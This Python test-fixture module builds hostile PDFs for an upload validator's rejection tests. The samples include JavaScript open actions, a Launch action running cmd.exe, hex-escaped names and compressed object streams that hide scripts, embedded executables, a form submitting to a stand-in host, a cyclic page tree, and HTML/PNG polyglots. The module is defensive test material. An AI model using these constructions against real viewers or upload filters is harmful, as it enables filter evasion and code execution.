"""Hostile files for the upload tests (issue 12 item 5): polyglots, PDFs with JavaScript, launch actions,
embedded files, names escaped in hex, objects hidden in compressed object streams, lying page trees — built
at runtime, with pypdf's writer where it can write them and by hand where it cannot (hex names, object
and cross-reference streams). Each one is named after what it hides; none must be accepted."""

import io
import zlib

from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from demo.exemples import pdf

SCRIPT = "app.alert('xss');"


def assembler(objets: dict[int, bytes], racine: int = 1, dans_flux: dict[int, bytes] | None = None) -> bytes:
    """A PDF from its objects' bodies, offsets computed: a classic cross-reference table, or, with
    ``dans_flux``, those objects compressed in one object stream and a cross-reference stream (PDF 1.5)."""
    sortie = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    positions = {}
    for num, corps in sorted(objets.items()):
        positions[num] = len(sortie)
        sortie += b"%d 0 obj\n%s\nendobj\n" % (num, corps)
    if not dans_flux:
        taille = max(objets) + 1
        xref = len(sortie)
        sortie += b"xref\n0 %d\n0000000000 65535 f \n" % taille
        for num in range(1, taille):
            sortie += b"%010d 00000 n \n" % positions[num] if num in positions else b"0000000000 65535 f \n"
        sortie += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (taille, racine, xref)
        return bytes(sortie)
    # The object stream: « num offset … » then the bodies, compressed.
    entete, corps, index = [], b"", {}
    for i, (num, contenu) in enumerate(sorted(dans_flux.items())):
        entete.append(b"%d %d" % (num, len(corps)))
        corps += contenu + b"\n"
        index[num] = i
    entete = b" ".join(entete) + b"\n"
    donnees = zlib.compress(entete + corps)
    flux_num = max([*objets, *dans_flux]) + 1
    xref_num = flux_num + 1
    positions[flux_num] = len(sortie)
    sortie += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        flux_num,
        len(dans_flux),
        len(entete),
        len(donnees),
    )
    sortie += donnees + b"\nendstream\nendobj\n"
    positions[xref_num] = len(sortie)
    lignes = b"\x00\x00\x00\x00\x00\xff\xff"  # object 0, free
    for num in range(1, xref_num + 1):
        if num in positions:
            lignes += b"\x01" + positions[num].to_bytes(4, "big") + b"\x00\x00"
        elif num in index:
            lignes += b"\x02" + flux_num.to_bytes(4, "big") + index[num].to_bytes(2, "big")
        else:
            lignes += b"\x00\x00\x00\x00\x00\xff\xff"
    sortie += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\nstream\n" % (
        xref_num,
        xref_num + 1,
        racine,
        len(lignes),
    )
    sortie += lignes + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % positions[xref_num]
    return bytes(sortie)


def _page(extra: bytes = b"") -> dict[int, bytes]:
    """Catalog 1, pages 2, one page 3 (``extra`` in the page's dictionary)."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + extra + b" >>",
    }


def _catalogue(extra: bytes, *autres: tuple[int, bytes]) -> bytes:
    objets = _page()
    objets[1] = b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"
    objets.update(dict(autres))
    return assembler(objets)


def _ecrit(ecrivain: PdfWriter) -> bytes:
    tampon = io.BytesIO()
    ecrivain.write(tampon)
    return tampon.getvalue()


def _ecrivain() -> PdfWriter:
    ecrivain = PdfWriter()
    ecrivain.add_blank_page(width=595, height=842)
    return ecrivain


def open_action_javascript() -> bytes:
    ecrivain = _ecrivain()
    ecrivain.add_open_action(JavaScript(SCRIPT))  # the document-level JavaScript names tree
    return _ecrit(ecrivain)


def catalogue_openaction_js() -> bytes:
    return _catalogue(b"/OpenAction 4 0 R", (4, b"<< /S /JavaScript /JS (" + SCRIPT.encode() + b") >>"))


def page_aa_javascript() -> bytes:
    ecrivain = _ecrivain()
    ecrivain.pages[0].add_action(PageTrigger.OPEN, JavaScript(SCRIPT))
    return _ecrit(ecrivain)


def lien_javascript() -> bytes:
    """A link annotation whose /A runs JavaScript."""
    ecrivain = _ecrivain()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(SCRIPT)}
    )
    lien = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 100, 100)]),
            NameObject("/A"): action,
        }
    )
    ecrivain.pages[0][NameObject("/Annots")] = ArrayObject([ecrivain._add_object(lien)])
    return _ecrit(ecrivain)


def fichier_joint() -> bytes:
    ecrivain = _ecrivain()
    ecrivain.add_attachment("facture.exe", b"MZ\x90\x00")
    return _ecrit(ecrivain)


def javascript_chiffre() -> bytes:
    """JavaScript in a PDF encrypted with an empty user password (it opens without one)."""
    ecrivain = _ecrivain()
    ecrivain.add_open_action(JavaScript(SCRIPT))
    ecrivain.encrypt(user_password="", owner_password="proprietaire", algorithm="RC4-128")
    return _ecrit(ecrivain)


def launch() -> bytes:
    return _catalogue(b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")


def noms_hexadecimaux() -> bytes:
    """« /J#61vaScript » and « /J#53 »: the same names, escaped, written raw."""
    return _catalogue(b"/OpenAction << /S /J#61vaScript /J#53 (" + SCRIPT.encode() + b") >>")


def launch_hexadecimal() -> bytes:
    return _catalogue(b"/OpenAction << /S /#4C#61#75#6E#63#68 /F (cmd.exe) >>")


def bourrage(taille: int) -> bytes:
    """The body of an unused stream of ``taille`` bytes: what makes a file big."""
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (taille, b"\x00" * taille)


def gros_pdf(taille: int) -> bytes:
    """A clean one-page PDF of more than ``taille`` bytes."""
    return assembler({**_page(), 9: bourrage(taille)})


def flux_d_objets(taille: int = 0) -> bytes:
    """The JavaScript action, names escaped, inside a compressed object stream: nothing in the raw bytes
    (``taille``: that many more bytes, for a file read in the background)."""
    objets = _page()
    objets[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    if taille:
        objets[9] = bourrage(taille)
    action = b"<< /S /J#61vaScript /J#53 (" + SCRIPT.encode() + b") >>"
    return assembler(objets, dans_flux={4: action})


def catalogue_dans_flux() -> bytes:
    """Catalog, pages and the /AA of the page all in the object stream."""
    objets = _page(b"/AA << /O << /S /JavaScript /JS (" + SCRIPT.encode() + b") >> >>")
    return assembler({}, dans_flux=objets)


def flux_orphelin() -> bytes:
    """A compressed object stream that no cross-reference entry names, holding a JavaScript action
    (a viewer repairing the file may still find it)."""
    contenu = b"<< /S /JavaScript /JS (" + SCRIPT.encode() + b") >>\n"
    entete = b"9 0\n"
    donnees = zlib.compress(entete + contenu)
    flux = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(entete),
        len(donnees),
        donnees,
    )
    return _catalogue(b"", (4, flux))


def fichier_joint_annotation() -> bytes:
    fichier = b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
    annotation = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS " + fichier + b" >>"
    objets = _page(b"/Annots [4 0 R]")
    objets[4] = annotation
    objets[5] = b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream"
    return assembler(objets)


def rich_media() -> bytes:
    objets = _page(b"/Annots [4 0 R]")
    objets[4] = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>"
    return assembler(objets)


def submit_form() -> bytes:
    champ = b"<< /FT /Btn /T (ok) /Subtype /Widget /Rect [0 0 10 10] /P 3 0 R "
    champ += b"/A << /S /SubmitForm /F (https://exemple.invalid/vol) >> >>"
    objets = _page(b"/Annots [4 0 R]")
    objets[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>"
    objets[4] = champ
    return assembler(objets)


def import_data() -> bytes:
    return _catalogue(b"/OpenAction << /S /ImportData /F (donnees.fdf) >>")


def champ_aa_javascript() -> bytes:
    champ = b"<< /FT /Tx /T (nom) /Subtype /Widget /Rect [0 0 10 10] /P 3 0 R "
    champ += b"/AA << /K << /S /JavaScript /JS (" + SCRIPT.encode() + b") >> >> >>"
    objets = _page(b"/Annots [4 0 R]")
    objets[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>"
    objets[4] = champ
    return assembler(objets)


def xfa() -> bytes:
    objets = _page()
    objets[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>"
    xml = b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"
    objets[4] = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(xml), xml)
    return assembler(objets)


def goto_distant() -> bytes:
    return _catalogue(b"/OpenAction << /S /GoToR /F (\\\\\\\\serveur\\\\partage\\\\a.pdf) /D [0 /Fit] >>")


def goto_embarque() -> bytes:
    return _catalogue(b"/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>")


def polyglotte_html() -> bytes:
    return b"<html><body><script>alert(document.cookie)</script><!--\n" + pdf(1) + b"\n--></body></html>"


def png_avec_pdf() -> bytes:
    """A PNG whose private chunk holds a whole PDF (%PDF- within the first 1 024 bytes)."""
    contenu = pdf(1)
    tronc = b"pdFx" + contenu
    return (
        b"\x89PNG\r\n\x1a\n"
        + len(contenu).to_bytes(4, "big")
        + tronc
        + zlib.crc32(tronc).to_bytes(4, "big")
        + b"\x00\x00\x00\x00IEND\xaeB`\x82"
    )


def espace_avant_signature() -> bytes:
    return b"\n \t" + pdf(1)


def pages(n: int, declare: int | None = None, taille: int = 0) -> bytes:
    """``n`` blank pages in one page tree node, which declares ``declare`` pages (default: ``n``);
    ``taille``: that many more bytes. Written by hand: pypdf's writer takes seconds for 20 000 pages."""
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(n))
    objets = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n if declare is None else declare),
    }
    for i in range(n):
        objets[3 + i] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    if taille:
        objets[3 + n] = bourrage(taille)
    return assembler(objets)


def compte_menteur(n: int, taille: int = 0) -> bytes:
    """``n`` pages, the tree declaring 1."""
    return pages(n, declare=1, taille=taille)


def arbre_cyclique() -> bytes:
    """A page tree whose node lists its own parent: a reader that follows it never ends."""
    return assembler(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [4 0 R 3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            4: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 4 0 R] /Count 0 >>",
        }
    )


# Every file that must be refused by its content, with what the candidat must be told.
ACTIFS = {
    "open_action_javascript": (open_action_javascript, "du JavaScript"),
    "catalogue_openaction_js": (catalogue_openaction_js, "du JavaScript"),
    "page_aa_javascript": (page_aa_javascript, "du JavaScript"),
    "lien_javascript": (lien_javascript, "du JavaScript"),
    "champ_aa_javascript": (champ_aa_javascript, "du JavaScript"),
    "javascript_chiffre": (javascript_chiffre, "du JavaScript"),
    "noms_hexadecimaux": (noms_hexadecimaux, "du JavaScript"),
    "flux_d_objets": (flux_d_objets, "du JavaScript"),
    "catalogue_dans_flux": (catalogue_dans_flux, "du JavaScript"),
    "flux_orphelin": (flux_orphelin, "du JavaScript"),
    "launch": (launch, "une commande de lancement de programme"),
    "launch_hexadecimal": (launch_hexadecimal, "une commande de lancement de programme"),
    "fichier_joint": (fichier_joint, "des fichiers joints"),
    "fichier_joint_annotation": (fichier_joint_annotation, "des fichiers joints"),
    "goto_embarque": (goto_embarque, "des fichiers joints"),
    "goto_distant": (goto_distant, "un lien qui ouvre un autre fichier"),
    "rich_media": (rich_media, "du contenu multimédia actif"),
    "submit_form": (submit_form, "un envoi de formulaire"),
    "import_data": (import_data, "une importation de données"),
    "xfa": (xfa, "un formulaire dynamique (XFA)"),
}
# Not a PDF by its first bytes.
FAUX_PDF = {
    "polyglotte_html": polyglotte_html,
    "png_avec_pdf": png_avec_pdf,
    "espace_avant_signature": espace_avant_signature,
}
